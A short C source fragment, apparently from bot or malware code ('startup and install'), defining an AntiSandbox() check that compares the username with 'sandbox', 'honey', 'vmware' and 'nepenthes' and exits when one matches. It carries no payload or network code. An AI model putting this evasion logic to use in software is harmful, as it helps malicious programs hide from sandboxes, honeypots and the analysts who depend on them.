#include "includes.h"

#include "Confix.h"

/*
  main.cpp
  -> startup and install
*/
#ifndef DEBUG
#pragma comment(lib, "Shell32")
#endif

char CurrentName[1024];
/////////////////
// config ends //
/////////////////
BOOL AntiSandbox()
{
	char *users[] = {"sandbox", "honey", "vmware", "currentuser", "nepenthes"};
	DWORD size = 128;
	char szUser[128];
	int i;

	GetUserName(szUser, &size);
	CharLower(szUser);

	for (i = 0; i <	(sizeof(users) / sizeof(LPTSTR)); i++)
	{
		if (strstr(szUser, users[i]) != 0)
			 return TRUE;
	}

	return FALSE;
}

int main()
{
	if (AntiSandbox())
		return 0;
	return 1;
}
